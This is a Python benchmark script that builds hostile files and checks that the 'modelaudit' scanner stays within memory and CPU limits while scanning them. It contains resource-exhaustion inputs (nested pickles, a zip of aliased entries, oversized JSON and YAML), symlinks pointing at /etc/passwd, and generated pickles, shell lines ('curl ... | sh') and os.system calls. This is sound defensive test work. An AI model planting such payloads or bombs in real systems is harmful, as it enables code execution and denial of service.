"""Scan files that are written to cost memory or time, each in a process of its own, and check the bounds.

``make bench-hostile`` runs it. ``HOSTILE`` lists a writer and the expected exit codes for each name. A scan of a file
may take ``MEMORY_MOST`` and ``SECONDS_MOST`` of CPU time, that of a folder ``FOLDER_MEMORY_MOST``. CPU time does not
depend on the load of the machine.
"""

from __future__ import annotations

import argparse
import copy
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from hostile_archives import ARCHIVES
from hostile_documents import make_tensor_rows, write_gguf_pairs, write_gguf_tensors, write_safetensors_header
from hostile_facts import FACTS
from hostile_files import (
    ANSWERED,
    INCOMPLETE,
    INCOMPLETE_OR_FAIL,
    HostileFile,
    write_numbered,
    write_repeated,
)
from hostile_models import MODELS
from hostile_texts import TEXTS

MIB: Final = 1 << 20
MEMORY_MOST: Final = 200 * MIB
FOLDER_MEMORY_MOST: Final = 300 * MIB
SECONDS_MOST: Final = 60
# The process is ended at these multiples of the bounds, so that a failure is measured and harms nothing.
_MEMORY_FACTOR: Final = 8
_TIME_FACTOR: Final = 10
_COMMAND: Final = str(Path(sys.executable).parent / "modelaudit")


@dataclass(frozen=True, slots=True)
class Scan:
    """What one scan took: exit code (negative if a signal ended it), CPU seconds, and peak of memory in bytes."""

    exit_code: int
    seconds: float
    peak: int


def main() -> None:
    """Write, scan and remove each file; exit with 1 if a bound or an exit code is missed."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("names", nargs="*", help="files to scan (default: all)", metavar="NAME")
    chosen = parser.parse_args().names or list(HOSTILE)
    missed = []
    with tempfile.TemporaryDirectory() as folder:
        for name in chosen:
            hostile_file = HOSTILE[name]
            path = Path(folder) / hostile_file.name
            hostile_file.write(path)
            is_folder = path.is_dir()
            size = path.stat().st_size / MIB
            output = Path(folder) / "report"
            scan = scan_bounded(path, [option.format(report=output) for option in hostile_file.options])
            if is_folder:
                shutil.rmtree(path)
            else:
                path.unlink()
            output.unlink(missing_ok=True)
            faults = list_faults(scan, hostile_file.exit_codes, is_folder)
            missed += faults
            figures = (
                f"{size:7.1f} MiB  exit {scan.exit_code:3}  {scan.seconds:6.1f} s  peak {scan.peak / MIB:6.0f} MiB"
            )
            print(f"{name:28} {figures}  {'; '.join(faults)}", flush=True)
    sys.exit(1 if missed else 0)


def scan_bounded(path: Path, options: Iterable[str] = ()) -> Scan:
    """Scan a file or folder without a second opinion, in a process whose memory and CPU time are bounded."""
    command = [_COMMAND, "scan", str(path), "--no-second-opinion", "--offline", "-q", *options]
    process = subprocess.Popen(
        command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=_bound_this_process
    )
    _, status, usage = os.wait4(process.pid, 0)
    process.returncode = os.waitstatus_to_exitcode(status)  # the process is gone, and must not be waited for again
    peak = usage.ru_maxrss * (1 if sys.platform == "darwin" else 1024)  # Linux counts KiB
    return Scan(process.returncode, usage.ru_utime + usage.ru_stime, peak)


def _bound_this_process() -> None:
    """Bound the address space and CPU time of the process that a scan begins in."""
    memory, seconds = _MEMORY_FACTOR * MEMORY_MOST, _TIME_FACTOR * SECONDS_MOST
    resource.setrlimit(resource.RLIMIT_AS, (memory, memory))  # the soft limit and the hard one
    resource.setrlimit(resource.RLIMIT_CPU, (seconds, seconds))


def list_faults(scan: Scan, exit_codes: Iterable[int], is_folder: bool = False) -> list[str]:
    """Return one sentence for each bound that a scan passed, and for an exit code that is not expected."""
    faults = []
    if scan.exit_code not in exit_codes:
        faults.append(f"exit code {scan.exit_code} is not expected")
    memory_most = FOLDER_MEMORY_MOST if is_folder else MEMORY_MOST
    if scan.seconds > SECONDS_MOST and not is_folder:
        faults.append(f"more than {SECONDS_MOST} s of CPU time")
    if scan.peak > memory_most:
        faults.append(f"more than {memory_most // MIB} MiB of memory")
    return faults


def _write_python_list(lines: int) -> Callable[[Path], None]:
    """Return a writer of one list with a number on each of ``lines`` lines."""

    def write(path: Path) -> None:
        with path.open("wb") as file:
            file.write(b"x=[\n")
            for _ in range(lines // 50_000):
                file.write(b"1,\n" * 50_000)
            file.write(b"]\n")

    return write


def _write_function_chain(functions: int) -> Callable[[Path], None]:
    """Return a writer of ``functions`` functions, each of which returns the next one."""

    def write(path: Path) -> None:
        with path.open("w", encoding="utf-8") as file:
            file.writelines(f"def f{n}():\n return f{n + 1}\n" for n in range(functions))

    return write


def _write_executed_f_string(path: Path) -> None:
    """Write ``exec`` of an f-string with 400,000 fields, 2 MB of source."""
    path.write_text("exec(f'" + '{"a"}' * 400_000 + "')\n", encoding="utf-8")


def _write_shared_zip_member(entries: int) -> Callable[[Path], None]:
    """Return a writer of an archive whose directory lists the data of one member under ``entries`` names."""

    def write(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("member.txt", b"a" * 1000)
            listed = archive.getinfo("member.txt")
            for number in range(entries - 1):
                alias = copy.copy(listed)
                alias.filename = f"alias-{number:06}.txt"
                archive.filelist.append(alias)

    return write


def _write_repeated_opcodes(start: bytes, opcodes: bytes, count: int, end: bytes = b".") -> Callable[[Path], None]:
    """Return a writer of a pickle of protocol 4: ``start``, then ``opcodes`` as often as ``count``, then ``end``."""

    def write(path: Path) -> None:
        with path.open("wb") as file:
            file.write(b"\x80\x04" + start)
            per_block = min(count, 100_000)
            for _ in range(count // per_block):
                file.write(opcodes * per_block)
            file.write(end)

    return write


def _write_numbered_opcodes(
    start: bytes, make_opcodes: Callable[[int], bytes], count: int, end: bytes = b"."
) -> Callable[[Path], None]:
    """Return a writer of a pickle of protocol 4: ``start``, then the opcodes made of each number, then ``end``."""

    def write(path: Path) -> None:
        with path.open("wb") as file:
            file.write(b"\x80\x04" + start)
            file.writelines(make_opcodes(number) for number in range(count))
            file.write(end)

    return write


def _write_links(target: str, count: int) -> Callable[[Path], None]:
    """Return a writer of a folder with a JSON file and ``count`` links to ``target``."""

    def write(path: Path) -> None:
        path.mkdir()
        (path / "model.json").write_text('{"a": 1}')
        for number in range(count):
            (path / f"link-{number:06}.json").symlink_to(target)

    return write


def _write_small_files(count: int) -> Callable[[Path], None]:
    """Return a writer of a folder with ``count`` different JSON files."""

    def write(path: Path) -> None:
        path.mkdir()
        for number in range(count):
            (path / f"config-{number:06}.json").write_text(f'{{"a": {number}}}')

    return write


def _write_dangerous_files(count: int) -> Callable[[Path], None]:
    """Return a writer of a folder with ``count`` different files, each with a finding: pickles, shell and Python."""

    def write(path: Path) -> None:
        path.mkdir()
        for number in range(0, count, 3):
            (path / f"a{number:06}.pkl").write_bytes(b"\x80\x04cposix\nsystem\nX\x06\0\0\0%06d\x85R." % number)
            (path / f"b{number:06}.sh").write_text(f"curl http://example.org/{number} | sh\n")
            (path / f"c{number:06}.py").write_text(f'import os\nos.system("{number}")\n')

    return write


def _encode_number(number: int) -> bytes:
    """Encode a memo index or a length as pickles do, in four bytes."""
    return number.to_bytes(4, "little")


_LONG_TEXT: Final = b"X" + _encode_number(MIB) + b"a" * MIB
_DICT_OF_NAMES: Final = b"}(" + b"".join(b"X\x05\0\0\0k%04dcm\nn%d\n" % (n, n) for n in range(250)) + b"u\x940"
_FOLDERS: Final[tuple[tuple[str, Callable[[Path], None], frozenset[int]], ...]] = (
    ("folder-links-outside-200000", _write_links("/etc/passwd", 200_000), frozenset({1})),
    ("folder-links-to-one-file-200000", _write_links("model.json", 200_000), frozenset({3})),
    ("folder-dangerous-files-24000", _write_dangerous_files(24_000), frozenset({1})),
    ("folder-findings-120000", _write_dangerous_files(119_997), frozenset({1})),
    ("folder-small-files-100000", _write_small_files(100_000), frozenset({0})),
)
_OUTPUTS: Final = ("json", "html", "cyclonedx")

HOSTILE: Final[dict[str, HostileFile]] = {
    "python-list-20mb": HostileFile("wide.py", _write_python_list(6_500_000), INCOMPLETE),
    "python-list-9mb": HostileFile("wide.py", _write_python_list(3_000_000), INCOMPLETE),
    "python-functions-30000": HostileFile("chain.py", _write_function_chain(30_000), ANSWERED),
    "python-functions-120000": HostileFile("chain.py", _write_function_chain(120_000), INCOMPLETE),
    "python-f-string-2mb": HostileFile("text.py", _write_executed_f_string, INCOMPLETE_OR_FAIL),
    "pickle-tuples-10mb": HostileFile("deep.pkl", _write_repeated_opcodes(b")", b"\x85", 10_000_000), ANSWERED),
    "pickle-tuples-40mb": HostileFile("deep.pkl", _write_repeated_opcodes(b")", b"\x85", 40_000_000), INCOMPLETE),
    "pickle-memoized-tuples": HostileFile("deep.pkl", _write_repeated_opcodes(b")", b"\x85\x94", 2_900_000), ANSWERED),
    "pickle-pairs-11mb": HostileFile("pairs.pkl", _write_repeated_opcodes(_LONG_TEXT, b"2\x86", 5_000_000), ANSWERED),
    "pickle-lists": HostileFile(
        "lists.pkl", _write_repeated_opcodes(b"", b"]\x94", 2_900_000, b"a" * 2_800_000 + b"."), INCOMPLETE_OR_FAIL
    ),
    "pickle-sparse-memo": HostileFile(
        "memo.pkl",
        _write_numbered_opcodes(b"N", lambda n: b"r" + _encode_number(10 + 2 * n), 2_900_000),
        INCOMPLETE_OR_FAIL,
    ),
    "pickle-memo-reads": HostileFile(
        "memo.pkl", _write_numbered_opcodes(b"(", lambda n: b"j" + _encode_number(n), 2_900_000, b"la."), ANSWERED
    ),
    "pickle-states": HostileFile(
        "states.pkl",
        _write_numbered_opcodes(_DICT_OF_NAMES, lambda n: b"cm\na%d\n)\x81h\0b0" % n, 48_000, b"N."),
        INCOMPLETE_OR_FAIL,
    ),
    "zip-shared-member-60000": HostileFile("shared.zip", _write_shared_zip_member(60_000), INCOMPLETE_OR_FAIL),
    **{name: HostileFile("model", write, codes) for name, write, codes in _FOLDERS},
    **{
        f"folder-small-files-as-{output}": HostileFile(
            "model", _write_small_files(100_000), frozenset({0}), ("-o", f"{output}={{report}}")
        )
        for output in _OUTPUTS
    },
    "yaml-keys-3200000": HostileFile(
        "a.yaml", write_numbered(b"", lambda number: b"k%07d: %07d\n" % (number, number), 3_200_000), INCOMPLETE
    ),
    "yaml-keys-2450000": HostileFile("a.yaml", write_numbered(b"", lambda n: b"%07d:\n" % n, 2_450_000), ANSWERED),
    "yaml-scalar-60mb": HostileFile("a.yaml", write_repeated(b'a: "', b"a", 60_000_000, b'"\n'), INCOMPLETE),
    "yaml-wide-scalar-60mb": HostileFile(
        "a.yaml", write_repeated('a: "\U0001f600'.encode(), b"a", 60_000_000, b'"\n'), INCOMPLETE
    ),
    "json-escapes-9000000": HostileFile("a.json", write_repeated(b'["', b"\\u0041", 9_000_000, b'"]'), INCOMPLETE),
    "json-wide-string-60mb": HostileFile(
        "a.json", write_repeated('["\U0001f600'.encode(), b"a", 60_000_000, b'"]'), INCOMPLETE
    ),
    "json-keys-4900000": HostileFile(
        "a.json", write_numbered(b'{"a":1', lambda number: b',"%07d":1' % number, 4_900_000, b"}"), ANSWERED
    ),
    "json-settings-290000": HostileFile(
        "a.json",
        write_numbered(b'{"auto_map":{"AutoModel":"a.B"}', lambda n: b',"%07d":"%0180d"' % (n, n), 290_000, b"}"),
        INCOMPLETE_OR_FAIL,
    ),
    "json-unclosed-list": HostileFile("a.json", write_repeated(b'["a"', b',"a"', 4_900_000), INCOMPLETE_OR_FAIL),
    "safetensors-string-99mb": HostileFile(
        "a.safetensors",
        write_safetensors_header(lambda: b'{"__metadata__":{"n":"' + b"a" * 98_999_900 + b'"}}'),
        INCOMPLETE,
    ),
    "safetensors-tensors-800000": HostileFile(
        "a.safetensors", write_safetensors_header(lambda: make_tensor_rows(800_000)), INCOMPLETE
    ),
    "safetensors-tensors-100000": HostileFile(
        "a.safetensors", write_safetensors_header(lambda: make_tensor_rows(100_000)), ANSWERED
    ),
    "gguf-pairs-2000000": HostileFile("a.gguf", write_gguf_pairs, INCOMPLETE),
    "gguf-tensors-1000000": HostileFile("a.gguf", write_gguf_tensors, INCOMPLETE_OR_FAIL),
    **TEXTS,
    **MODELS,
    **ARCHIVES,
    **FACTS,
}


if __name__ == "__main__":
    main()
